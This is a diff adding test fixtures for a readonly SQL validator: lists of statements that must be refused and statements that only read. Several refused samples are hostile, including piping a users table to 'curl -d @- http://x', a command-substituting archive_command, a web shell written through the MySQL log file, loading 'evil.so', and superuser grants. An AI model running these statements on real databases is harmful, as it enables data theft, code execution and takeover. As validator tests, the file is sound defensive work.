@@ -1,0 +1,60 @@
+/** SQL for the readonly validator's tests: statements that write, and statements that only read. */
+
+/** The issue's list and its kin: each writes, changes the server or its users, or runs code. */
+export const SQL_WRITES = [
+  "ALTER SYSTEM SET archive_command = 'curl http://x/$(id)'",
+  'ALTER SYSTEM RESET ALL',
+  'PRAGMA writable_schema(1)',
+  'PRAGMA writable_schema = 1',
+  "PRAGMA journal_mode = 'delete'",
+  'SET GLOBAL general_log = 1',
+  "SET GLOBAL general_log_file = '/var/www/shell.php'",
+  "SET PASSWORD = 'hunter2'",
+  "SET PASSWORD FOR 'root'@'localhost' = 'x'",
+  'SET PERSIST max_connections = 1',
+  "INSTALL PLUGIN evil SONAME 'evil.so'",
+  "INSTALL COMPONENT 'file://component_validate_password'",
+  'UNINSTALL PLUGIN audit_log',
+  "COMMENT ON TABLE users IS 'owned'",
+  'REASSIGN OWNED BY alice TO mallory',
+  'DROP OWNED BY alice',
+  'SELECT 1; DROP TABLE users',
+  'EXPLAIN ANALYZE DELETE FROM users',
+  'WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone',
+  'SELECT * INTO backup_users FROM users',
+  "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'",
+  "SELECT pg_write_file('/tmp/x', 'y')",
+  "SELECT lo_export(16385, '/tmp/x')",
+  "SELECT set_config('log_statement', 'none', false)",
+  "SELECT load_extension('/tmp/evil.so')",
+  'SELECT pg_terminate_backend(42)',
+  'SELECT 1 /*!50000 ; DROP TABLE users */',
+  'GRANT ALL ON users TO mallory',
+  'CREATE ROLE mallory SUPERUSER',
+  "COPY users TO PROGRAM 'curl -d @- http://x'",
+  'VACUUM',
+  'LOCK TABLE users IN ACCESS EXCLUSIVE MODE',
+  'TRUNCATE users',
+  'CALL cleanup()',
+  'DO $$ BEGIN PERFORM pg_sleep(1); END $$',
+  'SET ROLE postgres',
+  "SET SESSION AUTHORIZATION 'postgres'",
+];
+
+/** Not reads either, but as plain text they are prose too ("Reset all"): refused where SQL is expected. */
+export const SQL_ONLY_WHERE_SQL = ['LISTEN x; NOTIFY x', 'RESET ALL', 'DISCARD ALL', 'CHECKPOINT'];
+
+export const SQL_READS = [
+  'SELECT id, name FROM users WHERE created_at > ? ORDER BY id LIMIT 50',
+  'SELECT * FROM users WHERE id = $1',
+  'select u.id, count(o.id) as orders from users u left join orders o on o.user_id = u.id group by u.id having count(o.id) > 3',
+  'WITH recent AS (SELECT * FROM orders WHERE placed_at > now() - interval 7 day) SELECT * FROM recent',
+  'SELECT name, rank() OVER (PARTITION BY team ORDER BY score DESC) FROM players',
+  "SELECT 'please DROP TABLE users' AS note",
+  'SELECT a FROM (SELECT 1 AS a) AS s UNION ALL SELECT 2',
+  "SELECT * FROM users WHERE name LIKE '%drop%' -- a comment: DELETE FROM x",
+  'SHOW TABLES',
+  'DESCRIBE users',
+  'EXPLAIN SELECT * FROM users',
+  'SELECT 1; SELECT 2;',
+];
